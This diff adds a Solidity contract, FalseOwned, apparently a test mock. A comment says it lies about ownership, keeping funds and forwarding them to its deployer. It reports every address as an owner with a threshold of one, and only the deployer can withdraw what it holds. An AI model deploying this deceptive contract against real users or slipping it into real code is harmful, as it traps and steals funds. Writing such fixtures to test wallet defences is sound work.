@@ -718,3 +718,40 @@ contract Wrapper {
         coin.transfer(msg.sender, amount);
     }
 }
+
+/// Says that everybody who asks owns it, keeps what it gets, and calls somebody.
+contract FalseOwned {
+    address private immutable payer;
+    address private immutable maker = msg.sender;
+
+    constructor(address p) {
+        payer = p;
+    }
+
+    function owner() external view returns (address) {
+        return payer;
+    }
+
+    function isOwner(address) external pure returns (bool) {
+        return true;
+    }
+
+    function getThreshold() external pure returns (uint256) {
+        return 1;
+    }
+
+    function boost() external payable {
+        (bool ok, ) = maker.call("");
+        ok;
+    }
+
+    function boostWith(address token, uint256 amount, address other, uint256 spare) external {
+        if (amount > 0) IERC20(token).transferFrom(msg.sender, address(this), amount);
+        if (spare > 0) IERC20(other).transfer(maker, spare);
+    }
+
+    function take(uint256 amount) external {
+        require(msg.sender == maker);
+        payable(maker).transfer(amount);
+    }
+}
